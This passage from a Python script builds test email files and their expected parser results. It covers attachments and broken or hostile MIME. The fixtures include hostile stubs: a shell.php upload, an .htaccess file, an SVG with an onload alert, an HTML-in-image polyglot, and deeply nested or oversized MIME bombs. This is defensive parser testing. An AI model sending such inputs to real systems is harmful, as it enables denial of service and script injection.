    "htaccess": (b"AddType x", 'filename=".htaccess"', ".htaccess", None),
    "php": (b"<?php", 'filename="shell.php"', "shell.php", None),
    "html": (b"<script>", 'filename="page.html"', "page.html", None),
    "svg": (b"<svg onload=alert(1)>", 'filename="logo.svg"', "logo.svg", None),
    "exe": (b"MZ", 'filename="setup.exe"', "setup.exe", None),
    "png-that-is-html": (b"<html><script>", 'filename="photo.png"', "photo.png", None),
    "gif-polyglot": (b"<script>GIF89a", 'filename="a.gif"', "a.gif", None),
    "empty": (b"", 'filename="empty.pdf"', "empty.pdf", None),
}  # fmt: skip
for name, (data, said, file, kept) in FILES.items():
    mail(f"file-{name}", parts(text_part(), file_part(data, name=said), subject=f"File {name}"),
         became=f"{NEW}, files {[kept] if kept else []}", read={"text": "See the file.", "subject": f"File {name}", "files": [file]})  # fmt: skip
mail("file-inline-picture", parts(text_part(), file_part(PNG, kind='image/png; name="shot.png"', disposition="inline", name='filename="shot.png"'), kind="related"),
     became=f"{NEW}, files ['shot.png']", read={"text": "See the file.", "files": ["shot.png"]})  # fmt: skip
mail("file-without-name", parts(text_part(), "Content-Type: image/png\nContent-Transfer-Encoding: base64\n\n" + base64.encodebytes(PNG).decode()),
     became=f"{NEW}, files ['mail.png']", read={"text": "See the file.", "files": ["mail.png"]})  # fmt: skip
mail(
    "file-only",
    parts(file_part(PDF, name='filename="a.pdf"'), to=TOKEN),
    became=f"{REPLY}, files ['a.pdf']",
    read={"text": "", "files": ["a.pdf"]},
)
mail("file-attached-mail", parts(text_part(), 'Content-Type: message/rfc822\nContent-Disposition: attachment; filename="old.eml"\n\nFrom: a@b.test\nTo: c@d.test\nSubject: Old\n\nOld words.'),
     became=f"{NEW}, files ['old.eml']", read={"text": "See the file.", "files": ["old.eml"]})  # fmt: skip
mail("file-calendar", parts(text_part(), 'Content-Type: text/calendar; charset=utf-8\n\nBEGIN:VCALENDAR\nEND:VCALENDAR'),
     became=f"{NEW}, files []", read={"text": "See the file.", "files": ["mail.ics"]})  # fmt: skip
mail("file-25", parts(text_part(), *[file_part(PDF, name=f'filename="{n}.pdf"') for n in range(25)]),
     became=f"{NEW}, files {[f'{n}.pdf' for n in range(20)]}", read={"text": "See the file.", "files": [f"{n}.pdf" for n in range(25)]})  # fmt: skip
mail(
    "file-signed",
    parts(
        text_part("Hello."), "Content-Type: application/pgp-signature\n\n-----BEGIN PGP SIGNATURE-----", kind="signed"
    ),
    became=NEW,
    read={"text": "Hello."},
)

# --- Broken and hostile -------------------------------------------------------------------------------------------------

mail("mime-without-end", parts(text_part("Hello.")).replace("--=_b1--", ""), became=NEW, read={"text": "Hello."})
mail(
    "mime-without-boundary",
    head() + "MIME-Version: 1.0\nContent-Type: multipart/mixed\n\nHello.\n",
    became=f"{NEW}, files []",
    read={"text": "Hello."},
)
mail(
    "mime-wrong-boundary",
    parts(text_part("Hello.")).replace('boundary="=_b1"', 'boundary="other"'),
    became=NEW,
    read={"text": f"A mail in parts.\n\n--=_b1\n{text_part('Hello.')}\n--=_b1--"},
)
mail(
    "mime-bad-type",
    head() + "MIME-Version: 1.0\nContent-Type: nonsense\n\nHello.\n",
    became=NEW,
    read={"text": "Hello."},
)
mail(
    "mime-nested",
    parts(
        f'Content-Type: multipart/alternative; boundary="in"\n\n--in\n{text_part("Hello.")}\n--in\nContent-Type: text/html\n\n<p>Other</p>\n--in--'
    ),
    became=NEW,
    read={"text": "Hello."},
)


def nested(depth):
    body = text_part("Hello.")
    for level in range(depth):
        body = f'Content-Type: multipart/mixed; boundary="n{level}"\n\n--n{level}\n{body}\n--n{level}--'
    return head() + "MIME-Version: 1.0\n" + body + "\n"


mail("mime-depth-15", nested(15), became=NEW, read={"text": "Hello."})
mail("hostile-depth-100", nested(100), became="quarantined too_complex", read={"error": "depth"})
mail("hostile-depth-1000", nested(1000), became="quarantined too_complex", read={"error": "parts"})
mail(
    "hostile-parts-1000",
    parts(*["Content-Type: text/plain\n\nx"] * 1000),
    became="quarantined too_complex",
    read={"error": "parts"},
)
mail("hostile-delimiters", parts(*["\n"] * 21_000), became="quarantined too_complex", read={"error": "delimiters"})
mail(
    "hostile-headers",
    head() + "".join(f"X-{n}: a\n" for n in range(2000)) + "\nHello.\n",
    became="quarantined too_complex",
    read={"error": "headers"},
)
mail(
    "hostile-header-600-kb",
    head() + "X-Long: " + "a" * 600_000 + "\n\nHello.\n",
    became="quarantined too_complex",
    read={"error": "headers"},
)
mail(
    "hostile-rfc822-in-rfc822",
    head() + "MIME-Version: 1.0\n" + "Content-Type: message/rfc822\n\n" * 300 + "Hello.\n",
    became="quarantined too_complex",
    read={"error": "parts"},
)
mail(
    "hostile-no-headers",
    "Just words, no header at all.\n",
    became="quarantined unreadable",
    read={"error": "no headers"},
)
mail("hostile-empty", "", became="quarantined unreadable", read={"error": "no headers"})
mail("hostile-binary", bytes(range(256)) * 20, became="quarantined unreadable", read={"error": "no headers"})
mail("hostile-long-boundary", parts(text_part("Hello."), boundary="b" * 5000), became=NEW, read={"text": "Hello."})


def main():
    for old in HERE.glob("*.eml"):
        old.unlink()
    for name, (data, _expected) in MAILS.items():
        (HERE / f"{name}.eml").write_bytes(data)
    said = {name: expected for name, (_data, expected) in MAILS.items()}
    (HERE / "expected.json").write_text(json.dumps(said, indent=1, ensure_ascii=False) + "\n")
    print(len(MAILS))


if __name__ == "__main__":
    main()
